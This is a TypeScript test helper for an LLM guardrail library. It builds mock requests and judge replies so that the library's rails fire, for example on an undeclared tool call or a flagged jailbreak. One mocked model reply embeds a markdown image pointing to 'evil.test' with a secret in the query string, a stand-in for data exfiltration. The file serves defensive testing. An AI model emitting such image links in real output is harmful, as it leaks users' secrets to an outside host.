import type { GenerationRequest } from "@toolstile/iorails";
import { completionBody } from "@toolstile/testing";
import { type Flow, withFlow } from "../configurations.mjs";
import { calling, type Effect, seen } from "./probe.js";

// Too long, in Spanish, with an address and a letter that is looked for.
const text = `a ada@lovelace.dev ${"Hola, ¿cómo estás? ".repeat(300)}`;
const entity = { label: "email", start: 0, end: 1, text: "a", score: 1 };
const entities = completionBody({ content: JSON.stringify({ entities: [entity] }) });
/** Every judge and service finds something. */
const replies = {
  m: `${text} ![a](https://evil.test/?q=secret)`,
  g: "unsafe",
  "/classify": { jailbreak: true, data: [{ label: "toxic", probs: [1] }] },
  "/v1/chat/completions": entities,
};

const tools = [{ type: "function", function: { name: "t", parameters: true } }];
const call = { id: "c1", type: "function", function: { name: "t", arguments: "{}" } };
const result = { role: "tool", tool_call_id: "c1", content: "a" };
const user = { role: "user", content: text };

/** A request of which a flow of this section has something to say. */
function requestFor({ section, flow }: Flow): GenerationRequest {
  // A call of a tool that is not declared, and a result that names another.
  if (flow === "tool call validation") return { messages: [user] };
  const name = flow === "tool result validation" ? "other" : "t";
  const asked = { role: "assistant", content: null, tool_calls: [call] };
  const results = section === "tool_result" ? [asked, { ...result, name }] : [];
  return {
    messages: [user, ...results],
    options: { llm_params: { tools }, context: { relevant_chunks: "something else" } },
  };
}

/** The end of a request with a flow, and without it: its status, and the rail that said so. */
export function seenOfFlow(row: Flow): readonly [Promise<unknown>, Promise<unknown>] {
  const { section, perTool, flow } = row;
  const given = withFlow(row) as { readonly rails: Readonly<Record<string, object>> };
  const own = perTool === true ? { per_tool: {} } : { flows: [] };
  const without = { ...given, rails: { ...given.rails, [section]: own } };
  const asksOfCall = section === "tool_call";
  const effect: Omit<Effect, "given"> = {
    key: "colang_version",
    values: ["1.0", "1.0"],
    replies: asksOfCall ? { ...replies, m: calling({ a: "a" }) } : replies,
    ask: async ({ rails }) => {
      const { status, violations } = await rails.generate(requestFor(row));
      const [violation] = violations;
      return [
        status,
        violation?.rail?.replace(/ \$.*/, "") ?? (status === "modified" ? flow : undefined),
      ];
    },
    sees: [undefined, undefined],
  };
  return [seen({ ...effect, given }, "1.0"), seen({ ...effect, given: without }, "1.0")];
}
